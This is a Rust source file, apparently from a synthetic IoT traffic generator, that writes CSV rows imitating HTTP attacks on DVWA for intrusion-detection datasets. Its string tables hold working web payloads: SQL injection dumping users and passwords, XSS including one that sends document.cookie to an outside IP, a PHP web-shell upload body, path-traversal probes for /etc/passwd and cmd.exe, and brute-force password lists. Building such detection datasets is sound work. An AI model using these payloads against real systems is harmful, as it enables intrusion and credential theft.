//! HTTP sessions: ordinary browsing and the web attacks (flood, SQL injection, XSS,
//! file upload, login brute force, vulnerability scan). The attacks aim at DVWA, as
//! in the Edge-IIoTset testbed. The text tables hold the real file's hardest CSV
//! cases: query strings and bodies with commas, doubled quotes and line breaks.

use rand::Rng;

use super::tcp::{self, ACK, PSH};
use crate::network::pick;
use crate::row::{Column, Field, Row, push_hex_digits, push_ip, push_u64};
use crate::traffic::{Flow, GenState};

/// One `http.file_data` value in this many holds a real newline (the others hold
/// the two characters `\n`). About 1 row in 20 carries `file_data` in the paper mix
/// (1 in 10 balanced), so this is roughly 1 row in 2,000 (1 in 1,000 balanced).
const NEWLINE_ONE_IN: u32 = 100;

/// Query strings as they appear in the CSV: ones holding commas or double quotes
/// are already quoted and escaped.
const NORMAL_PAGES: [(&str, Option<&str>); 7] = [
    ("/", None),
    ("/index.html", None),
    ("/api/v1/sensors", Some("id=3&format=json")),
    ("/api/v1/status", None),
    ("/dashboard", Some("range=24h")),
    ("/favicon.ico", None),
    ("/static/app.js", Some("v=1.4.2")),
];
const SQLI_QUERIES: [&str; 7] = [
    "id=1%27+OR+%271%27%3D%271&Submit=Submit",
    "id=1' OR '1'='1&Submit=Submit",
    "id=1%27+UNION+SELECT+user%2C+password+FROM+users--+&Submit=Submit",
    "\"id=1' UNION SELECT user, password FROM users-- &Submit=Submit\"",
    "id=%27+AND+1%3D0+UNION+SELECT+NULL%2C+table_name+FROM+information_schema.tables--+&Submit=Submit",
    "id=1%27+AND+SLEEP%285%29--+&Submit=Submit",
    "\"id=1\"\" OR \"\"1\"\"=\"\"1&Submit=Submit\"",
];
const XSS_QUERIES: [&str; 5] = [
    "name=%3Cscript%3Ealert%28%27XSS%27%29%3C%2Fscript%3E",
    "\"name=<script>alert(\"\"x\"\")</script>\"",
    "name=%3Cimg+src%3Dx+onerror%3Dalert%281%29%3E",
    "\"name=<svg/onload=alert(document.cookie)>, test\"",
    "default=%3Cscript%3Edocument.location%3D%27http%3A%2F%2F192.168.0.170%2F%3Fc%3D%27%2Bdocument.cookie%3C%2Fscript%3E",
];
const BRUTE_QUERIES: [&str; 8] = [
    "username=admin&password=123456&Login=Login",
    "username=admin&password=password&Login=Login",
    "username=admin&password=qwerty&Login=Login",
    "username=admin&password=letmein&Login=Login",
    "username=root&password=raspberry&Login=Login",
    "username=admin&password=abc123&Login=Login",
    "username=user&password=iloveyou&Login=Login",
    "username=admin&password=trustno1&Login=Login",
];
const VULN_PAGES: [(&str, Option<&str>); 14] = [
    ("/cgi-bin/test.cgi", None),
    ("/admin/", None),
    ("/phpmyadmin/", None),
    ("/.git/config", None),
    ("/wp-login.php", None),
    ("/server-status", None),
    ("/../../../../etc/passwd", None),
    ("/scripts/..%c0%af../winnt/system32/cmd.exe", Some("/c+dir")),
    ("/index.php", Some("option=com_content&view=article&id=1")),
    ("/manager/html", None),
    ("/.env", None),
    ("/config.php.bak", None),
    ("/shell", Some("cat+/etc/passwd")),
    ("/HNAP1/", None),
];
const VULN_METHODS: [&str; 9] = [
    "GET", "GET", "GET", "GET", "HEAD", "OPTIONS", "PROPFIND", "TRACE", "POST",
];
const PASSWORDS: [&str; 8] = [
    "123456",
    "password",
    "admin",
    "qwerty",
    "letmein",
    "dragon",
    "monkey",
    "raspberry",
];
const NAMES: [&str; 5] = ["admin", "Gordon", "Hack", "Pablo", "Bob"];

const REF_NORMAL: &str = "http://192.168.0.128/dashboard";
const REF_SQLI: &str = "http://192.168.0.128/dvwa/vulnerabilities/sqli/";
const REF_XSS_R: &str = "http://192.168.0.128/dvwa/vulnerabilities/xss_r/";
const REF_XSS_S: &str = "http://192.168.0.128/dvwa/vulnerabilities/xss_s/";
const REF_UPLOAD: &str = "http://192.168.0.128/dvwa/vulnerabilities/upload/";
const REF_LOGIN: &str = "http://192.168.0.128/dvwa/login.php";

/// A device browsing its gateway's pages: request, response, ACK.
pub(crate) fn browse(row: &mut Row, flow: &mut Flow, state: &mut GenState, index: u32) {
    let rng = &mut state.rng;
    match index % 3 {
        0 => {
            let (path, query) = pick(rng, &NORMAL_PAGES);
            let referer = rng.random_bool(0.4).then_some(REF_NORMAL);
            let len = rng.random_range(180..=420);
            request(
                row,
                flow,
                state,
                Request {
                    method: "GET",
                    path,
                    query,
                    referer,
                    version: "HTTP/1.1",
                    len,
                },
            );
        }
        1 => {
            let body = if rng.random_bool(0.5) {
                Body::Json
            } else {
                Body::Html
            };
            let (len, content_length) =
                (rng.random_range(300..=1448), rng.random_range(120..=6000));
            response(row, flow, state, len, content_length, body);
        }
        _ => tcp::segment(row, flow, state, true, ACK, 0),
    }
}

/// HTTP flood: bare `GET /` requests, the server answering some of them.
pub(crate) fn flood(row: &mut Row, flow: &mut Flow, state: &mut GenState, index: u32) {
    let rng = &mut state.rng;
    if index.is_multiple_of(2) {
        let path = if rng.random_bool(0.7) {
            "/"
        } else {
            "/index.html"
        };
        let version = if rng.random_bool(0.5) {
            "HTTP/1.1"
        } else {
            "HTTP/1.0"
        };
        let len = rng.random_range(60..=160);
        request(
            row,
            flow,
            state,
            Request {
                method: "GET",
                path,
                query: None,
                referer: None,
                version,
                len,
            },
        );
    } else if rng.random_bool(0.5) {
        tcp::segment(row, flow, state, false, ACK, 0);
    } else {
        let len = rng.random_range(200..=600);
        response(row, flow, state, len, 10_918, Body::Plain);
    }
}

/// SQL injection against DVWA's `sqli` page, answered with table dumps.
pub(crate) fn sql_injection(row: &mut Row, flow: &mut Flow, state: &mut GenState, index: u32) {
    let rng = &mut state.rng;
    match index % 3 {
        0 => {
            let query = Some(pick(rng, &SQLI_QUERIES));
            let referer = rng.random_bool(0.5).then_some(REF_SQLI);
            let len = rng.random_range(420..=720);
            let path = "/dvwa/vulnerabilities/sqli/";
            request(
                row,
                flow,
                state,
                Request {
                    method: "GET",
                    path,
                    query,
                    referer,
                    version: "HTTP/1.1",
                    len,
                },
            );
        }
        1 => {
            let (len, content_length) =
                (rng.random_range(1000..=1448), rng.random_range(1500..=3200));
            response(row, flow, state, len, content_length, Body::SqlDump);
        }
        _ => tcp::segment(row, flow, state, true, ACK, 0),
    }
}

/// Reflected (GET) and stored (POST) cross-site scripting, echoed back.
pub(crate) fn xss(row: &mut Row, flow: &mut Flow, state: &mut GenState, index: u32) {
    let rng = &mut state.rng;
    match index % 3 {
        0 if rng.random_bool(0.5) => {
            let query = Some(pick(rng, &XSS_QUERIES));
            let referer = rng.random_bool(0.5).then_some(REF_XSS_R);
            let len = rng.random_range(700..=1000);
            let path = "/dvwa/vulnerabilities/xss_r/";
            request(
                row,
                flow,
                state,
                Request {
                    method: "GET",
                    path,
                    query,
                    referer,
                    version: "HTTP/1.1",
                    len,
                },
            );
        }
        0 => {
            let referer = rng.random_bool(0.5).then_some(REF_XSS_S);
            let (len, content_length) = (rng.random_range(800..=1200), rng.random_range(60..=320));
            let path = "/dvwa/vulnerabilities/xss_s/";
            request(
                row,
                flow,
                state,
                Request {
                    method: "POST",
                    path,
                    query: None,
                    referer,
                    version: "HTTP/1.1",
                    len,
                },
            );
            post_body(row, state, content_length, Body::XssPost);
        }
        1 => {
            let (len, content_length) = (
                state.rng.random_range(1000..=1448),
                state.rng.random_range(4000..=5200),
            );
            response(row, flow, state, len, content_length, Body::XssEcho);
        }
        _ => tcp::segment(row, flow, state, true, ACK, 0),
    }
}

/// A web shell uploaded through DVWA's upload form: a POST, full data segments,
/// the server's answer.
pub(crate) fn upload(row: &mut Row, flow: &mut Flow, state: &mut GenState, index: u32) {
    let rng = &mut state.rng;
    match index % 4 {
        0 => {
            let referer = rng.random_bool(0.6).then_some(REF_UPLOAD);
            let (len, content_length) = (
                rng.random_range(600..=1448),
                rng.random_range(2000..=60_000),
            );
            let path = "/dvwa/vulnerabilities/upload/";
            request(
                row,
                flow,
                state,
                Request {
                    method: "POST",
                    path,
                    query: None,
                    referer,
                    version: "HTTP/1.1",
                    len,
                },
            );
            post_body(row, state, content_length, Body::Multipart);
        }
        1 | 2 => tcp::segment(row, flow, state, true, ACK, 1448),
        _ if rng.random_bool(0.5) => tcp::segment(row, flow, state, false, ACK, 0),
        _ => {
            let (len, content_length) =
                (rng.random_range(300..=1200), rng.random_range(4000..=4600));
            response(row, flow, state, len, content_length, Body::Html);
        }
    }
}

/// Password guessing on DVWA's login form (POST) and brute-force page (GET).
pub(crate) fn brute_force(row: &mut Row, flow: &mut Flow, state: &mut GenState, index: u32) {
    let rng = &mut state.rng;
    match index % 3 {
        0 if rng.random_bool(0.5) => {
            let referer = rng.random_bool(0.5).then_some(REF_LOGIN);
            let (len, content_length) = (rng.random_range(450..=650), rng.random_range(40..=95));
            let path = "/dvwa/login.php";
            request(
                row,
                flow,
                state,
                Request {
                    method: "POST",
                    path,
                    query: None,
                    referer,
                    version: "HTTP/1.1",
                    len,
                },
            );
            post_body(row, state, content_length, Body::Login);
        }
        0 => {
            let query = Some(pick(rng, &BRUTE_QUERIES));
            let len = rng.random_range(400..=560);
            let path = "/dvwa/vulnerabilities/brute/";
            request(
                row,
                flow,
                state,
                Request {
                    method: "GET",
                    path,
                    query,
                    referer: None,
                    version: "HTTP/1.1",
                    len,
                },
            );
        }
        1 => {
            let (len, content_length) =
                (rng.random_range(300..=1448), rng.random_range(1400..=1600));
            response(row, flow, state, len, content_length, Body::LoginFailed);
        }
        _ => tcp::segment(row, flow, state, true, ACK, 0),
    }
}

/// A vulnerability scanner probing well-known paths, mostly answered 404.
pub(crate) fn vulnerability_scan(row: &mut Row, flow: &mut Flow, state: &mut GenState, index: u32) {
    let rng = &mut state.rng;
    if index.is_multiple_of(2) {
        let method = pick(rng, &VULN_METHODS);
        let (path, query) = pick(rng, &VULN_PAGES);
        let version = if rng.random_bool(0.7) {
            "HTTP/1.1"
        } else {
            "HTTP/1.0"
        };
        let len = rng.random_range(120..=320);
        request(
            row,
            flow,
            state,
            Request {
                method,
                path,
                query,
                referer: None,
                version,
                len,
            },
        );
    } else if rng.random_bool(0.8) {
        let (len, content_length) = (rng.random_range(300..=520), rng.random_range(196..=290));
        response(row, flow, state, len, content_length, Body::NotFound);
    } else {
        let (len, content_length) = (rng.random_range(300..=1448), rng.random_range(120..=6000));
        response(row, flow, state, len, content_length, Body::Html);
    }
}

/// An HTTP request line's worth of fields.
struct Request {
    method: &'static str,
    path: &'static str,
    /// In CSV form (quoted and escaped when it needs to be).
    query: Option<&'static str>,
    referer: Option<&'static str>,
    version: &'static str,
    /// TCP payload bytes.
    len: u32,
}

fn request(row: &mut Row, flow: &mut Flow, state: &mut GenState, request: Request) {
    tcp::segment(row, flow, state, true, PSH | ACK, request.len);
    row.set(Column::HttpRequestMethod, Field::Str(request.method));
    row.set(Column::HttpRequestVersion, Field::Str(request.version));
    if let Some(referer) = request.referer {
        row.set(Column::HttpReferer, Field::Str(referer));
    }
    if let Some(query) = request.query {
        row.set(Column::HttpRequestUriQuery, Field::Str(query));
    }
    let server = flow.server;
    row.text(Column::HttpRequestFullUri, |out| {
        // A quoted query makes the whole URI a quoted field; its inside is already escaped.
        let quoted = request
            .query
            .and_then(|query| query.strip_prefix('"')?.strip_suffix('"'));
        if quoted.is_some() {
            out.push(b'"');
        }
        out.extend_from_slice(b"http://");
        push_ip(out, server);
        out.extend_from_slice(request.path.as_bytes());
        if let Some(query) = quoted.or(request.query) {
            out.push(b'?');
            out.extend_from_slice(query.as_bytes());
        }
        if quoted.is_some() {
            out.push(b'"');
        }
    });
}

fn response(
    row: &mut Row,
    flow: &mut Flow,
    state: &mut GenState,
    len: u32,
    content_length: u32,
    body: Body,
) {
    tcp::segment(row, flow, state, false, PSH | ACK, len);
    row.num(Column::HttpResponse, 1u8);
    row.num(Column::HttpContentLength, content_length);
    file_data(row, state, body);
}

fn post_body(row: &mut Row, state: &mut GenState, content_length: u32, body: Body) {
    row.num(Column::HttpContentLength, content_length);
    file_data(row, state, body);
}

/// `http.file_data` templates. Every one holds commas and doubled quotes, and a
/// line break: the two characters `\n`, or (rarely) a real newline inside the quotes.
#[derive(Debug, Clone, Copy)]
enum Body {
    Json,
    Html,
    Plain,
    SqlDump,
    XssPost,
    XssEcho,
    Multipart,
    Login,
    LoginFailed,
    NotFound,
}

fn file_data(row: &mut Row, state: &mut GenState, body: Body) {
    let rng = &mut state.rng;
    let nl: &[u8] = if rng.random_ratio(1, NEWLINE_ONE_IN) {
        b"\n"
    } else {
        b"\\n"
    };
    let (below_1000, below_100) = (rng.random_range(0..1000u64), rng.random_range(0..100u64));
    let name = pick(rng, &NAMES);
    let password = pick(rng, &PASSWORDS);
    row.text(Column::HttpFileData, |out| {
        out.push(b'"');
        match body {
            Body::Json => {
                out.extend_from_slice(b"{\"\"device\"\":\"\"esp32-");
                push_u64(out, below_100);
                out.extend_from_slice(b"\"\", \"\"temp\"\":");
                push_u64(out, below_1000 / 10);
                out.push(b'.');
                push_u64(out, below_1000 % 10);
                out.extend_from_slice(b", \"\"hum\"\":");
                push_u64(out, below_100);
                out.extend_from_slice(b"}");
                out.extend_from_slice(nl);
                out.extend_from_slice(b"{\"\"status\"\":\"\"ok\"\"}");
            }
            Body::Html => {
                out.extend_from_slice(b"<html><head><title>IoT Gateway</title></head>");
                out.extend_from_slice(nl);
                out.extend_from_slice(b"<body class=\"\"dash\"\">Sensors: ");
                push_u64(out, below_100);
                out.extend_from_slice(b", online</body></html>");
            }
            Body::Plain => {
                out.extend_from_slice(b"<html><body><h1>It works!</h1>");
                out.extend_from_slice(nl);
                out.extend_from_slice(b"<p>Default page, \"\"Apache2\"\"</p></body></html>");
            }
            Body::SqlDump => {
                out.extend_from_slice(b"<pre>ID: 1' OR '1'='1<br />First name: ");
                out.extend_from_slice(name.as_bytes());
                out.extend_from_slice(b"<br />Surname: ");
                out.extend_from_slice(name.as_bytes());
                out.extend_from_slice(b"</pre>");
                out.extend_from_slice(nl);
                out.extend_from_slice(b"<div class=\"\"vulnerable_code_area\"\">, user_id ");
                push_u64(out, below_100);
                out.extend_from_slice(b"</div>");
            }
            Body::XssPost => {
                out.extend_from_slice(b"txtName=<script>alert(\"\"x");
                push_u64(out, below_100);
                out.extend_from_slice(b"\"\")</script>, mtxMessage=hi");
                out.extend_from_slice(nl);
                out.extend_from_slice(b"btnSign=Sign+Guestbook");
            }
            Body::XssEcho => {
                out.extend_from_slice(b"<pre>Hello <script>alert(\"\"XSS\"\")</script></pre>");
                out.extend_from_slice(nl);
                out.extend_from_slice(b"<div class=\"\"vulnerable_code_area\"\">, ");
                push_u64(out, below_1000);
                out.extend_from_slice(b"</div>");
            }
            Body::Multipart => {
                out.extend_from_slice(b"------WebKitFormBoundary");
                push_hex_digits(out, (below_1000 * 7919 + below_100) as u32, 8);
                out.extend_from_slice(nl);
                out.extend_from_slice(
                    b"Content-Disposition: form-data; name=\"\"uploaded\"\"; filename=\"\"shell",
                );
                push_u64(out, below_100);
                out.extend_from_slice(b".php\"\"");
                out.extend_from_slice(nl);
                out.extend_from_slice(b"<?php system($_GET[\"\"cmd\"\"]); ?>, // ");
                push_u64(out, below_1000);
            }
            Body::Login => {
                out.extend_from_slice(b"username=admin, password=");
                out.extend_from_slice(password.as_bytes());
                out.extend_from_slice(b", Login=\"\"Login\"\"");
                out.extend_from_slice(nl);
                out.extend_from_slice(b"user_token=");
                push_hex_digits(out, (below_1000 * 104_729 + below_100) as u32, 8);
            }
            Body::LoginFailed => {
                out.extend_from_slice(b"<div class=\"\"message\"\">Login failed</div>");
                out.extend_from_slice(nl);
                out.extend_from_slice(b"<input type=\"\"password\"\" name=\"\"password\"\">, attempt ");
                push_u64(out, below_1000);
            }
            Body::NotFound => {
                out.extend_from_slice(b"<!DOCTYPE HTML PUBLIC \"\"-//IETF//DTD HTML 2.0//EN\"\">");
                out.extend_from_slice(nl);
                out.extend_from_slice(
                    b"<html><head><title>404 Not Found</title></head>, <body><h1>Not Found</h1></body></html>",
                );
            }
        }
        out.push(b'"');
    });
}
